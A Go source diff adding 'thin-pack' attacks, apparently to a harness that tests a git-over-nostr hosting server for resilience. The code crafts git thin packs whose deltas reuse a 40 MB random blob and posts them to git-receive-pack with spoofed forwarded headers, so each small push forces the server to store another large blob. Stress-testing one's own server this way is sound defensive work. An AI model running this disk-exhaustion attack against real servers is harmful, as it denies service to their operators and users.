@@ -1,0 +1,165 @@
+package attack
+
+import (
+	"bytes"
+	"compress/zlib"
+	"context"
+	"crypto/rand"
+	"crypto/sha1"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	"talon/host"
+)
+
+// thinPacks make the server append a large blob for each of their few bytes.
+func thinPacks() []Attack {
+	return []Attack{
+		{
+			Name: "thin-pack-anonymous", Text: "deltas against a blob of 40 MB for events that are not here, from one address",
+			Count: 8, Unit: "pushes", Disk: 300 << 20,
+			Prepare: func(ctx context.Context, t *Target, count int) (Run, error) {
+				return prepareThinPacks(ctx, t, count, false)
+			},
+		},
+		{
+			Name: "thin-pack-owner", Text: "deltas against a blob of 40 MB by the owner of a repository",
+			Count: 10, Unit: "pushes", Disk: 300 << 20,
+			Prepare: func(ctx context.Context, t *Target, count int) (Run, error) {
+				return prepareThinPacks(ctx, t, count, true)
+			},
+		},
+	}
+}
+
+const largeBlob = 40 << 20
+
+// thinPush is a push of one commit, whose only blob is a delta.
+type thinPush struct {
+	body  []byte
+	state *host.Event // nil for an event that is not here
+}
+
+func prepareThinPacks(ctx context.Context, t *Target, count int, owner bool) (Run, error) {
+	large := make([]byte, largeBlob)
+	_, _ = rand.Read(large)
+	p, base, err := ownRepository(ctx, t, "thin", large)
+	if err != nil {
+		return nil, err
+	}
+	var pushes []thinPush
+	old := base
+	for i := range count {
+		pack, commit := thinPack(large, base, i)
+		push := thinPush{}
+		ref, was := "refs/heads/main", old
+		if owner {
+			push.state = p.state("thin", commit, int64(5000-i))
+			old = commit
+		} else {
+			id := sha1.Sum([]byte(commit))
+			ref, was = "refs/nostr/"+strings.Repeat(hexOf(id[:]), 2)[:64], strings.Repeat("0", 40)
+		}
+		line := fmt.Sprintf("%s %s %s\x00report-status", was, commit, ref)
+		push.body = append(fmt.Appendf(nil, "%04x%s0000", len(line)+4, line), pack...)
+		pushes = append(pushes, push)
+	}
+	url := t.url(p.repo("thin").Path()) + "/git-receive-pack"
+	return func(ctx context.Context) Figures {
+		var sent, accepted atomic.Int64
+		for _, push := range pushes {
+			if push.state != nil {
+				s, err := t.open(ctx, attacker(0))
+				if err != nil {
+					break
+				}
+				_ = s.publish(push.state)
+				s.close()
+			}
+			sent.Add(int64(len(push.body)))
+			if postPush(ctx, url, push.body) {
+				accepted.Add(1)
+			}
+		}
+		<-ctx.Done()
+		return Figures{"pushes": int64(len(pushes)), "accepted": accepted.Load(), "sent": sent.Load()}
+	}, nil
+}
+
+// postPush reports whether the server accepted a push.
+func postPush(ctx context.Context, url string, body []byte) bool {
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
+	if err != nil {
+		return false
+	}
+	req.Header = forwarded(attacker(0))
+	req.Header.Set("Content-Type", "application/x-git-receive-pack-request")
+	client := http.Client{Timeout: time.Minute}
+	resp, err := client.Do(req)
+	if err != nil {
+		return false
+	}
+	defer resp.Body.Close()
+	answer, _ := io.ReadAll(resp.Body)
+	return bytes.Contains(answer, []byte("unpack ok")) && !bytes.Contains(answer, []byte("ng refs/"))
+}
+
+// thinPack returns a pack with a commit upon base whose file is the blob with a few bytes before
+// it. The pack has these bytes and the name of the blob.
+func thinPack(blob []byte, base string, n int) (pack []byte, commit string) {
+	insert := fmt.Appendf(nil, "version %d\n", n)
+	h := sha1.New()
+	fmt.Fprintf(h, "blob %d\x00%s", len(insert)+len(blob), insert)
+	_, _ = h.Write(blob)
+	edited := h.Sum(nil)
+
+	delta := binary.AppendUvarint(nil, uint64(len(blob)))
+	delta = binary.AppendUvarint(delta, uint64(len(insert)+len(blob)))
+	delta = append(append(delta, byte(len(insert))), insert...)
+	const most = 0xffffff // bytes that one instruction copies
+	for at := 0; at < len(blob); at += most {
+		size := min(most, len(blob)-at)
+		delta = append(delta, 0x80|0x7f, byte(at), byte(at>>8), byte(at>>16), byte(at>>24), byte(size), byte(size>>8), byte(size>>16))
+	}
+	tree := append([]byte("100644 large\x00"), edited...)
+	text := fmt.Appendf(nil, "tree %s\nparent %s\nauthor a <a@example.com> %d +0000\ncommitter a <a@example.com> %d +0000\n\nversion %d\n",
+		hexOf(objectID("tree", tree)), base, 1700000100+n, 1700000100+n, n)
+
+	source := objectID("blob", blob)
+	pack = binary.BigEndian.AppendUint32([]byte("PACK\x00\x00\x00\x02"), 3)
+	pack = appendObject(pack, 7, delta, source)
+	pack = appendObject(pack, 2, tree, nil)
+	pack = appendObject(pack, 1, text, nil)
+	sum := sha1.Sum(pack)
+	return append(pack, sum[:]...), hex.EncodeToString(objectID("commit", text))
+}
+
+func objectID(kind string, body []byte) []byte {
+	h := sha1.New()
+	fmt.Fprintf(h, "%s %d\x00", kind, len(body))
+	_, _ = h.Write(body)
+	return h.Sum(nil)
+}
+
+// appendObject appends an object of a pack: its type and size, the base of a delta, and the
+// compressed body.
+func appendObject(pack []byte, kind byte, body, base []byte) []byte {
+	size := len(body)
+	head := kind<<4 | byte(size&15)
+	for size >>= 4; size > 0; size >>= 7 {
+		pack = append(pack, head|0x80)
+		head = byte(size & 127)
+	}
+	pack = append(append(pack, head), base...)
+	var b bytes.Buffer
+	w := zlib.NewWriter(&b)
+	_, _ = w.Write(body)
+	_ = w.Close()
+	return append(pack, b.Bytes()...)
+}
